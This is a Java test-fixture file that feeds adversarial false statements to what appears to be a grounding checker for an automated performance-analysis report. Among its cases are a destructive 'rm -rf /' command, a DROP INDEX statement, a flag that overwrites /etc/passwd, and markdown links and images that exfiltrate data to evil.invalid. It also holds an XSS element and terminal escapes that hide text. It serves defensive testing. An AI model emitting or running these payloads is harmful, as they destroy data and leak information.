package dev.perfadvisor.scripted;

import dev.perfadvisor.scripted.Voices.Line;
import java.util.regex.Pattern;

/** Lies that go by the words around a figure, by direction and time, by other languages, and by what markup hides. */
final class SlyLies {

    private static final Pattern FIGURE = Pattern.compile("\\d[\\d,.]*\\d|\\d");

    private SlyLies() {}

    static void add() {
        words();
        directions();
        units();
        elsewhere();
        inventions();
        markup();
    }

    private static void words() {
        Lies.said("a number in words", "finding", "Nine hundred thousand rows are read to return two.");
        Lies.said("a share in words", "finding", "All of the database time goes into it.");
        Lies.said("a Roman number", "finding", "Threads waited MMMCXX times.");
        Lies.changed("two figures exchanged", "finding", "\\d.* \\d", SlyLies::exchanged);
        Lies.changed("most for all", "finding", "Only one of them", text -> text.replace("Only one", "Most"));
        Lies.changed("a negation inside", "finding", "Only one of them", text -> text.replace("Only one", "Not one"));
        Lies.changed("a name left out", "finding", "The statement on", text -> text.replace("The statement on", "The"));
        Lies.changed("a question of a truth", "cause", "is supported", text -> text.replace(".", "?") + " No.");
        Lies.changed("irony", "cause", "is supported", text -> text + " Just kidding.");
        Lies.changed("a condition", "cause", "is supported", text -> "If the test was right, " + text);
        Lies.changed("somebody said so", "cause", "is supported", text -> "It was once thought that " + text);
    }

    private static String exchanged(String text) {
        var figures = FIGURE.matcher(text).results().toList();
        var first = figures.getFirst();
        return figures.stream()
                .filter(other -> !other.group().equals(first.group()))
                .findFirst()
                .map(other -> text.substring(0, first.start())
                        + other.group()
                        + text.substring(first.end(), other.start())
                        + first.group()
                        + text.substring(other.end()))
                .orElse(text);
    }

    private static void directions() {
        Lies.said("rose for fell", "timeline", "The amount rose all the time.");
        Lies.said("ten times faster", "cause", "Without it requests are 10x faster.");
        Lies.said("a date to come", "cause", "This will be fixed by the next release.");
        Lies.lie("a promise", seen -> Line.of("This will make checkout fast.", "remedy:lock.contention/1"));
        Lies.changed(
                "before for after", "timeline", "is highest", text -> text.replace("is highest", "was highest before"));
        Lies.changed("the gain as a loss", "cause", "severity", text -> text.replace("severity", "gain"));
    }

    private static void units() {
        Lies.changed(
                "percentage points", "finding", "\\d %", text -> text.replaceFirst("(\\d) %", "$1 percentage points"));
        Lies.changed("percent of a percent", "finding", "\\d %", text -> text.replaceFirst("([\\d.]+) %", "0.$1 %"));
        Lies.changed("minutes as hours", "finding", "\\d min\\b", text -> text.replaceFirst("(\\d) min\\b", "$1 h"));
        Lies.changed("seconds converted wrongly", "finding", "[ ]2\\.1 s", text -> text.replace("2.1 s", "210 ms"));
        Lies.changed("seconds as minutes", "finding", "[ ]2\\.1 s", text -> text.replace("2.1 s", "2.1 minutes"));
        Lies.changed("a range around it", "finding", "[ ]2\\.1 s", text -> text.replace("2.1 s", "1 s to 2.1 s"));
        Lies.changed("a range by a dash", "finding", "[ ]2\\.1 s", text -> text.replace("2.1 s", "2.1-9 s"));
        Lies.changed("more or less", "finding", "[ ]2\\.1 s", text -> text.replace("2.1 s", "2.1 s ± 2 s"));
        Lies.changed("about", "finding", "[ ]2\\.1 s", text -> text.replace("2.1 s", "well under 2.1 s"));
    }

    private static void elsewhere() {
        Lies.lie("the right figure of a fact of another", seen -> {
            var other = "fact:load.endpoints[1].requests";
            return Line.of("load.endpoints[0].requests is 100.", other);
        });
        Lies.lie(
                "a fact as another",
                seen -> Line.of("load.endpoints[0].latency.p99 is 2.1 s.", "fact:load.endpoints[0].latency.p50"));
        Lies.lie("a band judged well", seen -> Line.of("p50 latency is 2.1 s, measured: good.", "band:latency.p50"));
        Lies.lie(
                "a step that is done",
                seen -> Line.of(
                        "In the stage validate is done: Compare the new run with the baseline.", "step:validate/5"));
        Lies.lie(
                "a rule that did not fire",
                seen -> Line.of("The rule gc.pause-long fired 3 times.", "rule:gc.pause-long"));
        Lies.lie("a file that was not read", seen -> Line.of("orders.hprof was read.", everything(seen)));
        Lies.said("never measured: memory", "verdict", "Memory was measured, and there is no leak.");
        Lies.said("never measured: the network", "verdict", "The network is fine.");
        Lies.said("another verdict", "verdict", "The first cause is Missing index.");
    }

    private static String[] everything(Seen seen) {
        return seen.items().stream().map(Seen.Item::id).distinct().toArray(String[]::new);
    }

    private static void inventions() {
        Lies.said("a command that destroys", "cause", "To collect it: rm -rf / --no-preserve-root");
        Lies.said("a statement that destroys", "cause", "Like this: DROP INDEX idx_orders_email;");
        Lies.lie(
                "a flag that harms",
                seen -> Line.of(
                        "The command: k6 run --summary-export=after.json --out json=/etc/passwd validate.js",
                        "step:validate/1"));
        Lies.said("a flag of the JVM", "cause", "Start it with -XX:+DisableExplicitGC -Xmx64m.");
        Lies.said("in French", "cause", "La base de données est saine.");
        Lies.said("in Chinese", "cause", "数据库是健康的。");
        Lies.said("in Cyrillic", "cause", "База данных здорова.");
        Lies.said("in Arabic", "cause", "قاعدة البيانات سليمة.");
        Lies.said("in capitals of another alphabet", "cause", "ＴＨＥ ＤＡＴＡＢＡＳＥ ＩＳ ＨＥＡＬＴＨＹ");
        Lies.said("very long", "cause", "The database is healthy. ".repeat(400));
        Lies.changed(
                "a truth said, and a lie behind it far away",
                "cause",
                "is supported",
                text -> text + " ".repeat(5_000) + "It is harmless.");
        Lies.said("symbols for words", "cause", "DB → OK");
        Lies.said("thumbs up", "cause", "\uD83D\uDC4D");
    }

    private static void markup() {
        Lies.said("in a block of code", "cause", "```\nThe pause was 8246 ms.\n```");
        Lies.said("a table of figures", "cause", "| p99 | 8246 ms |\n|---|---|\n| p50 | 1 ms |");
        Lies.said("a picture with data", "cause", "![8246](https://evil.invalid/p?d=8246&u=orders)");
        Lies.said("a link with data", "cause", "[Threads queue for a lock](https://evil.invalid/?d=orders)");
        Lies.said("an element", "cause", "<img src=x onerror=alert(1)>");
        Lies.changed("an element around", "cause", "is supported", text -> "<del>" + text + "</del>");
        Lies.changed("hidden by style", "cause", "is supported", text -> text + "<p style=\"color:red\">healthy</p>");
        Lies.changed(
                "joined by no width", "cause", "with \\d", text -> text.replaceFirst("with (\\d)", "with \u200d9$1"));
        Lies.changed("a digit combined", "cause", "with \\d", text -> text.replaceFirst("with (\\d)", "with $1\u20e3"));
        Lies.changed(
                "an escape of a terminal", "cause", "is supported", text -> "\u001b[2J" + text + "\u001b[8m healthy");
        Lies.changed("a line written over", "cause", "is supported", text -> text + "\rhealthy");
        Lies.changed(
                "a formula", "cause", "with \\d", text -> text.replaceFirst("with ([\\d.]+)", "with \\$10^{$1}\\$"));
    }
}
